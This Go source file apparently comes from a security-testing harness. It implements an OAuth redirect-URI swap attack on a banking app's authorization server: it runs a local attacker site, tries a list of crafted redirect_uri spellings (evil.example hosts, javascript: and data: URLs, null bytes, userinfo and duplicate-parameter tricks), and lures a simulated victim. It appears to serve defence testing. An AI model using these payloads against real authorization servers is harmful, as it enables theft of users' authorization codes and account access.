package attacker

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"

	"golang.org/x/oauth2"

	"keyladder/internal/traffic"
	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/network"
	"keyladder/stages/protect"
)

// redirectSwap asks the authorization server to send the user, with what it gives, to a web site
// of the attacker's. Servers that compare addresses loosely take one of the spellings for the
// app's (RFC 9700, section 4.1.1). If this one does, the attacker lures the victim to follow such
// a link, which anyone can (RFC 9700, section 3): it leads to the bank's own page.
//
// A token that comes that way is good for whoever has it. A code has to be exchanged, which takes
// the client's secret where clients authenticate. The attack has none: to take one out of an app,
// or to put the code into the genuine one, needs a device, and that is another position (see
// code-hijack and code-relay). So there it ends at that check, however redirect URIs are compared.
//
//keyladder:code attack-redirect-swap
func redirectSwap(ctx context.Context, g *attack.Given) (attack.Result, error) {
	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	oauth, err := p.Caller.OAuth(g.RedirectURI)
	if err != nil {
		return attack.Result{}, err
	}
	site, closeSite, err := newSite(g)
	if err != nil {
		return attack.Result{}, err
	}
	defer closeSite()
	spellings, taken := swapped(g.RedirectURI, site), ""
	for _, uri := range spellings {
		link := strings.Replace(oauth.Draft().URL, one(g.RedirectURI), uri.query(), 1)
		accepted, err := p.Accepted(ctx, link)
		switch {
		case err != nil:
			return attack.Result{}, err
		case accepted && uri.ours && g.Lured != nil:
			g.Say("The authorization server takes %s for an address of the app's. Send the victim a link with it, to the bank's own page.", uri.first)
			return lure(ctx, g, link, uri.first, site)
		case accepted && taken == "":
			taken = uri.query()
		}
	}
	if taken != "" {
		return attack.Result{}, fmt.Errorf("the authorization server takes %s for an address of the app's, and no web site of ours is there", taken)
	}
	g.Say("Asked with %d other addresses, from a web site of ours to the right one with another ending: the page says each time that it leads nobody there.", len(spellings))
	if oauth.Pushes() {
		return pushSwapped(ctx, g, p, oauth, site)
	}
	return attack.Result{Obstacle: "the authorization server leads nobody to an address that is not registered, byte for byte"}, nil
}

// pushSwapped pushes a request for another address, where requests are pushed: an issuer that takes it
// would lead a user there. That takes a client integrity token, and the attack has none.
func pushSwapped(ctx context.Context, g *attack.Given, p *attack.Program, oauth *protect.OAuth, site string) (attack.Result, error) {
	request, err := url.Parse(oauth.Draft(oauth2.SetAuthURLParam("redirect_uri", site+"/callback")).URL)
	if err != nil {
		return attack.Result{}, err
	}
	page, err := oauth.Push(ctx, p.AtIssuer(), request.Query())
	var refused *protect.GrantError
	switch {
	case errors.As(err, &refused):
		g.Say("No request is taken out of the page's address here. Pushed one: %s. Only a genuine app may push one.", refused.Code)
		return attack.Result{Obstacle: "the mediator takes requests from genuine apps alone"}, nil
	case err != nil:
		return attack.Result{}, err
	case g.Lured == nil:
		return attack.Result{}, errors.New("the issuer takes a request for a web site of ours")
	}
	g.Say("The mediator takes a request for a web site of ours. Send the victim a link to its page.")
	return lure(ctx, g, page, site+"/callback", site)
}

// lure has the victim follow a link, and uses what they bring to the attacker's web site.
func lure(ctx context.Context, g *attack.Given, link, redirectURI, site string) (attack.Result, error) {
	location, err := g.Lured.Follows(ctx, link, site)
	if err != nil {
		return attack.Result{}, err
	}
	if location == "" {
		return attack.Result{}, errors.New("the victim was not led to the attacker's web site")
	}
	g.Say("The victim has signed in, and was led to our web site.")
	own := *g
	own.RedirectURI = redirectURI // it was asked with, so the code is exchanged with it
	return useResponse(ctx, &own, location)
}

// newSite starts a web site of the attacker's, and returns its origin.
func newSite(g *attack.Given) (origin string, closeSite func(), err error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, fmt.Errorf("start a web site: %w", err)
	}
	server := &http.Server{ReadHeaderTimeout: network.Timeout, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		const page = "<!doctype html><title>Thank you</title><p>You have won. We will write to you."
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		visit := traffic.Message{Lane: traffic.Server, Exchange: r.Header.Get(traffic.Header), Kind: traffic.Request, From: "network", To: network.Party, HTTP: traffic.RequestHead(r)}
		g.Record(visit)
		visit.Kind, visit.From, visit.To = traffic.Response, visit.To, visit.From
		visit.HTTP, visit.Body, visit.Size = traffic.AnswerHead(r.Proto, http.StatusOK, w.Header()), []byte(page), len(page)
		g.Record(visit)
		_, _ = io.WriteString(w, page)
	})}
	done := make(chan error, 1)
	go func() { done <- server.Serve(listener) }()
	return "http://" + listener.Addr().String(), func() {
		_ = server.Close()
		<-done
	}, nil
}

// spelling is what could pass for a redirect URI.
type spelling struct {
	first, second string // the parameter; second: it is there twice
	ours          bool   // it leads to the attacker's web site
}

func one(uri string) string { return "redirect_uri=" + url.QueryEscape(uri) }

// query is the spelling as it stands in a query.
func (s spelling) query() string {
	if s.second == "" {
		return one(s.first)
	}
	return one(s.first) + "&" + one(s.second)
}

// swapped are the spellings that are tried, with the origin of a web site of the attacker's.
func swapped(registered, site string) []spelling {
	scheme, rest, _ := strings.Cut(registered, ":")
	host := strings.TrimPrefix(site, "http://")
	return []spelling{
		{first: site + "/callback", ours: true},
		{first: site + "/" + registered, ours: true},
		{first: site + "/?next=" + registered, ours: true},
		{first: "http://localhost@" + host + "/callback", ours: true},
		{first: "https://evil.example/callback"},
		{first: "http://127.0.0.1:4444/callback"},
		{first: "http://localhost/callback"},
		{first: scheme + ".evil:" + rest},
		{first: "evil." + registered},
		{first: strings.ToUpper(registered)},
		{first: scheme + ":/" + rest},
		{first: scheme + "://evil.example" + rest},
		{first: registered + "/"},
		{first: registered + "/../evil"},
		{first: registered + "?next=https://evil.example"},
		{first: registered + "#"},
		{first: registered + "%2F"},
		{first: registered + "\x00"},
		{first: registered + " https://evil.example"},
		{first: " " + registered},
		{first: scheme + ":callback"},
		{first: "javascript:alert(1)"},
		{first: "data:text/html,evil"},
		{first: registered, second: site + "/callback"},
		{first: site + "/callback", second: registered},
	}
}
